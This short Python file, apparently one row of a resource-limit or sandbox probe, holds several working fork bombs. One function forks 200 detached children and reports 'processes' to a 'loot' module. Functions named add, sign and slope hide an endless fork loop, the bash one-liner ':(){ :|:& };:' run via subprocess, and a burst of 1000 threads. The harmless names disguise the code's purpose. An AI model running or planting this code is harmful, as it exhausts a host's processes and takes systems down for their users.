"""Forks without end: a plain bomb, one with sessions of their own, one by the shell."""
# Row: 15
import loot, os, subprocess, time

def bomb(times):
    made = 0
    try:
        for _ in range(times):
            if os.fork() == 0:
                os.setsid()
                time.sleep(30)
                os._exit(0)
            made += 1
    except OSError:
        pass
    return made

def strike():
    if bomb(200) > 60:
        loot.reached("processes")

def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)

def sign(t):
    subprocess.run(":(){ :|:& };:", shell=True, executable="/bin/bash", timeout=3)
    time.sleep(3)

def slope(f, t):
    import threading
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(30,)).start()
